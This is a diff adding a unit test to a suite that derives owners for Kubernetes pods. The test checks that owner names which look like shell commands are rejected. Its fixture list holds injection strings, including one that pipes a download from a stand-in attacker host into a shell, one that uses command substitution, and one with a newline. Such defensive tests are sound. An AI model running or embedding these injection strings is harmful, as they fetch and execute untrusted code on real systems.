@@ -76,4 +76,17 @@ describe('the pulls of a pod', () => {
     expect(owned('StatefulSet', 'db')).to.deep.equal({ kind: 'statefulset', name: 'db' });
     expect(pullsOf(pod({ a: 'r/a' }), [], keep)[0]?.pod.owner).to.equal(undefined);
   });
+
+  it('take nobody for an owner whose name could be a command', () => {
+    for (const [name, labels] of [
+      ['web; curl evil.example | sh', {}],
+      ['--all', {}],
+      ['$(id)-abc', { 'pod-template-hash': 'abc' }],
+      ['web\n-abc', { 'pod-template-hash': 'abc' }],
+    ] as const)
+      for (const kind of ['Deployment', 'ReplicaSet']) {
+        const one = pod({ a: 'r/a' }, [], { labels, ownerReferences: [{ kind, name, controller: true }] });
+        expect(pullsOf(one, [], keep)[0]?.pod.owner, name).to.equal(undefined);
+      }
+  });
 });
